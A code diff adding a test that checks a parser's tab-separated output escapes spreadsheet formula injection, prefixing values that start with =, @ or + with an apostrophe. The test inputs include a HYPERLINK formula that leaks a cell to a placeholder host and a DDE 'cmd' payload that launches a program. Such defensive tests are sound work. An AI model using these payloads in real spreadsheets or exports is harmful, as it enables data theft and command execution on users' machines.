@@ -216,6 +216,25 @@ describe('while it comes', () => {
 });
 
 describe('hostile answers', () => {
+  it('give a spreadsheet nothing to work out', () => {
+    const values = [
+      '=HYPERLINK("http://x.test?"&A1)',
+      '@SUM(A1)',
+      "+cmd|' /C calc'!A0",
+      '-12 €',
+      '+33 1 44 00 00 00',
+      '- à rendre',
+    ];
+    const answer = JSON.stringify({ facts: values.map((value) => ({ type: '=1', value, quote: '' })) });
+    const output = read(answer, { format: 'plain' });
+    const table = output.outcome === 'proposal' ? output.text.split('\n').slice(1) : [];
+    expect(table.map((row) => row.split('\t')[1])).toEqual([
+      ...values.slice(0, 3).map((value) => `'${value}`),
+      ...values.slice(3),
+    ]);
+    expect(table.every((row) => row.startsWith("'=1"))).toBe(true);
+  });
+
   it.each([
     ['brackets', '['.repeat(200_000)],
     ['braces', '{"a":'.repeat(80_000)],
